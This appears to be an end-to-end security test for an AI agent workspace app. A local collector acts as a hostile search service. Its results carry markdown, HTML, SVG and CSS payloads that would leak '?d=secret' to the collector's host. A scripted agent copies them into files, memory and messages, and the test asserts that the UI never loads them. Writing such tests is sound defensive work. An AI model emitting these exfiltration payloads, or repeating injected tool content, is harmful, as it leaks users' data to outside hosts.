import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "@playwright/test";
import { type App, expect, openCrew, test } from "./support/app";
import { edge, end, file, start } from "./support/run-graphs";

// What strangers write may tell a browser to load something, and so carry off what an agent knows. Here a hostile
// search service answers with such texts and a model repeats them wherever it can; the service counts who comes.

/** Looks for attributes of the page that lead to a place, wherever the page may have put them. */
const leadsTo = (page: Page, place: string) =>
  page.evaluate(
    (place) =>
      [...document.querySelectorAll("*")].flatMap((element) =>
        [...element.attributes]
          .filter(
            ({ name, value }) =>
              /^(src|srcset|href|style|data|poster|action)$/.test(name) && value.includes(place),
          )
          .map(({ name, value }) => `<${element.localName} ${name}="${value}">`),
      ),
    place,
  );

async function startCollector() {
  const visits: string[] = [];
  const searches: string[] = [];
  let payload = "";
  const server = createServer((request, response) => {
    if (request.url?.startsWith("/search?")) {
      searches.push(request.url);
      response.setHeader("content-type", "application/json");
      return void response.end(
        JSON.stringify({ results: [{ title: `Tea ${payload}`, url: `${place}/link`, content: payload }] }),
      );
    }
    visits.push(request.url ?? "");
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const place = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  payload = [
    `![chart](${place}/image?d=secret)`,
    `![][ref]`,
    `[read more](${place}/link?d=secret)`,
    `<${place}/auto?d=secret>`,
    `<img src='${place}/html?d=secret' onerror='fetch(this.src)'>`,
    `<link rel='prefetch' href='${place}/prefetch'><style>@import '${place}/style'</style>`,
    `<svg><image href='${place}/svg'/></svg><iframe src='${place}/frame'></iframe>`,
    `\n\n[ref]: ${place}/reference?d=secret\n`,
  ].join(" ");
  return {
    place,
    words: payload,
    visits,
    searches,
    close: () => {
      server.closeAllConnections();
      return new Promise((resolve) => server.close(resolve));
    },
  };
}

/** An agent of a crew that searches, writes down what it found in every way it has, and says it, too. */
function misled(payload: string) {
  const call = (tool: string, args: object) => `[[offline: tool ${tool} ${JSON.stringify(args)}]]`;
  const task = [
    "Look for tea.",
    call("web_search", { query: "tea" }),
    call("file_write", { path: "report.md", content: `# Report\n\n${payload}` }),
    call("file_write", { path: "page.html", content: `<!doctype html>${payload}` }),
    call("file_write", {
      path: "drawing.svg",
      content: `<svg xmlns="http://www.w3.org/2000/svg">${payload}</svg>`,
    }),
    call("create_artifact", { path: "summary.md", content: payload }),
    call("store_memory", { key: "collected", value: payload, scope: "run" }),
    call("write_board", { bulletin: payload }),
    call("ask_coworker", { coworker: "editor", question: `Is that so? ${payload}` }),
    `[[offline: text ${JSON.stringify(payload)}]]`,
  ].join(" ");
  const drawn = file(
    "Led astray",
    [
      start(["topic"]),
      {
        id: "crew",
        name: "Research",
        node_type: "crew_task",
        output_keys: ["report"],
        config: {
          plan_description_template: "Find tea",
          crew: {
            agents: [
              { agent_id: "scout", role_name: "Scout", allow_delegation: true },
              { agent_id: "editor", role_name: "Editor" },
            ],
          },
          plan: {
            tasks: [
              { task_id: "look", description: task, required_role: "Scout" },
              {
                task_id: "edit",
                description: `Repeat it. [[offline: text ${JSON.stringify(payload)}]]`,
                required_role: "Editor",
                dependencies: ["look"],
              },
            ],
          },
        },
        ui: { x: 320, y: 0 },
      },
      end("done", "Done", 2, 0, { output_keys: ["report"] }),
    ],
    [edge("start", "crew"), edge("crew", "done")],
    { config: { confirmation: { kind: "never" } } },
  );
  const tools = ["web_search", "file_write", "create_artifact", "store_memory", "write_board"];
  const roles = [
    { name: "Scout", description: "Looks around", tools },
    { name: "Editor", description: "Repeats what it is told" },
  ];
  return { ...drawn, roles };
}

test("untrusted content and model output never make a browser load external resources", async ({
  app,
  page,
}) => {
  const collector = await startCollector();
  try {
    await useSearch(app, page, collector.place);
    await app.openWorkflow(misled(collector.words));
    const untouched = async (where: string) => {
      expect(await leadsTo(page, collector.place), where).toEqual([]);
      expect(collector.visits, where).toEqual([]);
    };
    await app.run.start({ topic: "tea" });
    const crew = await openCrew(page, "Research");
    // While it is being said and handed on.
    await expect(page.getByText("/image?d=secret").first()).toBeVisible({ timeout: 30_000 });
    await untouched("while it runs");
    await app.run.expectEnd("Completed");
    expect(collector.searches).toHaveLength(1);

    const panel = page.getByRole("complementary", { name: "Run details" });
    await crew.getByRole("button", { name: /^Cost/ }).click();
    for (const view of [/^Messages/, /^Board/, /^Plan/]) {
      const tab = panel.getByRole("tab", { name: view });
      await tab.click();
      await expect(tab).toHaveAttribute("aria-selected", "true");
      await expect(panel.getByRole("tabpanel", { name: view })).toContainText(/\S/);
      await untouched(`the crew's ${view}`);
    }
    await panel.getByRole("tab", { name: /^Messages/ }).click();
    const message = panel.getByRole("list", { name: "Messages" }).getByRole("button").first();
    await expect(message).toContainText("[read more]");
    await message.click();
    await untouched("what one agent said to another");
    await crew.getByRole("button", { name: /^Scout Read untrusted content/ }).click();
    const about = page.getByRole("region", { name: "About Scout" });
    const searched = about.getByRole("region", { name: "Tool web_search" });
    await searched.getByText("Result", { exact: true }).click();
    await expect(about).toContainText("read more");
    await untouched("the transcript and the results of tools");
    await crew.getByRole("button", { name: "Collapse crew" }).click();

    await page.getByRole("tab", { name: /^Files/ }).click();
    for (const name of ["report.md", "page.html", "drawing.svg"]) {
      await page
        .getByRole("button", { name: new RegExp(name) })
        .first()
        .click();
      const shown = page.getByRole("article", { name });
      await expect(shown).toContainText(name === "report.md" ? "[image: chart" : "svg");
      await untouched(`the file ${name}`);
      await shown.getByRole("button", { name: "All files" }).click();
    }
    for (const tab of [/^Result/, /^Timeline/]) {
      await page.getByRole("tab", { name: tab }).click();
      await untouched(`the run's ${tab}`);
    }
    const run = page.url();

    await app.open("/memory");
    await expect(page.getByRole("list", { name: "Memories" })).toContainText("collected");
    await untouched("the page of memories");
    await page.getByRole("button", { name: "Delete collected" }).click();
    await app.open("/runs");
    await untouched("the list of runs");
    await app.open("/tools?tool=web_search");
    const tool = page.getByRole("article", { name: "web_search" });
    await tool.getByLabel("query").fill("tea");
    await tool.getByRole("button", { name: "Run tool" }).click();
    await expect(tool.getByRole("region", { name: "Result" })).toContainText("read more");
    await untouched("a tool that is tried out");

    // A file that is opened by its address is saved, not shown.
    const id = /runs\/(run_[\w-]+)/.exec(run)?.[1] ?? "";
    for (const name of ["page.html", "drawing.svg"]) {
      const sent = await page.request.get(`/api/runs/${id}/files/${name}`);
      expect(sent.headers()).toMatchObject({
        "content-disposition": expect.stringContaining("attachment"),
        "x-content-type-options": "nosniff",
        "content-security-policy": expect.stringContaining("sandbox"),
      });
    }
    expect(collector.visits).toEqual([]);
    // The collector would have noticed.
    await page.request.get(`${collector.place}/image?d=secret`);
    expect(collector.visits).toEqual(["/image?d=secret"]);
  } finally {
    await stopSearch(app, page);
    await collector.close();
  }
});

/** Has web searches answered by a SearXNG server at that address. */
async function useSearch(app: App, page: Page, address: string): Promise<void> {
  await app.open("/tools?services=1");
  const form = page.getByRole("form", { name: "Web search" });
  await form.getByLabel("Service").click();
  await page.getByRole("option", { name: /^SearXNG/ }).click();
  await form.getByLabel("URL").fill(address);
  await form.getByRole("button", { name: "Save" }).click();
  await expect(page.getByText("Saved", { exact: true })).toBeVisible();
}

async function stopSearch(app: App, page: Page): Promise<void> {
  await app.open("/tools?services=1");
  await page.getByRole("button", { name: "Remove" }).click();
  await expect(page.getByRole("button", { name: "Remove" })).toBeHidden();
}
